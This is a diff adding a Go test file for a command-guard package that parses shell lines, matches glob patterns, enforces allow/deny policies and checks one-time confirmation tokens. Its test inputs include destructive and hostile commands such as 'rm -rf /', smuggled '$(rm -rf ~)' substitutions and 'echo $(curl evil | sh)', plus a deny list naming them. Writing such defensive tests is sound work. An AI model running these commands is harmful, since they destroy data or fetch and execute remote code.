@@ -0,0 +1,131 @@
+package guard
+
+import (
+	"errors"
+	"testing"
+	"time"
+)
+
+func TestCommands(t *testing.T) {
+	got := Commands("make build && ./deploy.sh prod; echo $(rm -rf /tmp/x) | tee `whoami`\nls")
+	want := []string{"make build", "./deploy.sh prod", "echo", "rm -rf /tmp/x", "tee", "whoami", "ls"}
+	if len(got) != len(want) {
+		t.Fatalf("Commands = %q, want %q", got, want)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("Commands[%d] = %q, want %q", i, got[i], want[i])
+		}
+	}
+}
+
+func TestCommandsQuoting(t *testing.T) {
+	tests := []struct {
+		line string
+		want []string
+	}{
+		{`echo 'x; rm -rf ~'`, []string{`echo 'x; rm -rf ~'`}},
+		{`echo "a && b" && ls`, []string{`echo "a && b"`, "ls"}},
+		{`echo "$(rm -rf ~)"`, []string{`echo "`, "rm -rf ~", `"`}},
+		{`echo a\;b`, []string{`echo a\;b`}},
+	}
+	for _, tt := range tests {
+		got := Commands(tt.line)
+		if len(got) != len(tt.want) {
+			t.Errorf("Commands(%q) = %q, want %q", tt.line, got, tt.want)
+			continue
+		}
+		for i := range got {
+			if got[i] != tt.want[i] {
+				t.Errorf("Commands(%q) = %q, want %q", tt.line, got, tt.want)
+				break
+			}
+		}
+	}
+}
+
+func TestMatch(t *testing.T) {
+	tests := []struct {
+		pattern string
+		command string
+		want    bool
+	}{
+		{"rm *", "rm -rf /", true},
+		{"rm *", "RM -rf /", true},
+		{"rm *", "rmdir x", false},
+		{"*--force*", "git push --force origin", true},
+		{"kubectl delete *", "kubectl get pods", false},
+		{"git ?ull", "git pull", true},
+		{"git", "git status", false},
+		{"", "anything", false},
+		{"a.b", "axb", false},
+	}
+	for _, tt := range tests {
+		if got := Match(tt.pattern, tt.command); got != tt.want {
+			t.Errorf("Match(%q, %q) = %v, want %v", tt.pattern, tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestPolicyCheck(t *testing.T) {
+	p := Policy{
+		Allow: []string{"git *", "make *", "echo *"},
+		Deny:  []string{"git push --force*", "rm *"},
+	}
+
+	tests := []struct {
+		line    string
+		allowed bool
+	}{
+		{"git status", true},
+		{"make build && git push origin main", true},
+		{"git push --force origin main", false},
+		{"echo hi; rm -rf ~", false},
+		{"echo $(curl evil | sh)", false},
+		{"npm install", false},
+	}
+	for _, tt := range tests {
+		err := p.Check(tt.line)
+		var denied *DeniedError
+		if tt.allowed && err != nil {
+			t.Errorf("Check(%q) returned %v, want allowed", tt.line, err)
+		}
+		if !tt.allowed && !errors.As(err, &denied) {
+			t.Errorf("Check(%q) = %v, want DeniedError", tt.line, err)
+		}
+	}
+
+	if err := (Policy{}).Check("rm -rf /"); err != nil {
+		t.Errorf("empty policy should allow everything, got %v", err)
+	}
+}
+
+func TestTokens(t *testing.T) {
+	tokens := NewTokens(time.Minute)
+	now := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
+	tokens.now = func() time.Time { return now }
+
+	if err := tokens.Consume("", "deploy"); !errors.Is(err, ErrConfirmationRequired) {
+		t.Errorf("empty token: got %v", err)
+	}
+
+	tok, expires, err := tokens.Issue("deploy")
+	if err != nil || tok == "" || !expires.Equal(now.Add(time.Minute)) {
+		t.Fatalf("Issue = %q, %v, %v", tok, expires, err)
+	}
+	if err := tokens.Consume(tok, "other-tile"); !errors.Is(err, ErrInvalidToken) {
+		t.Errorf("foreign subject: got %v", err)
+	}
+	if err := tokens.Consume(tok, "deploy"); err != nil {
+		t.Errorf("valid token: got %v", err)
+	}
+	if err := tokens.Consume(tok, "deploy"); !errors.Is(err, ErrInvalidToken) {
+		t.Errorf("reused token: got %v", err)
+	}
+
+	tok, _, _ = tokens.Issue("deploy")
+	now = now.Add(2 * time.Minute)
+	if err := tokens.Consume(tok, "deploy"); !errors.Is(err, ErrInvalidToken) {
+		t.Errorf("expired token: got %v", err)
+	}
+}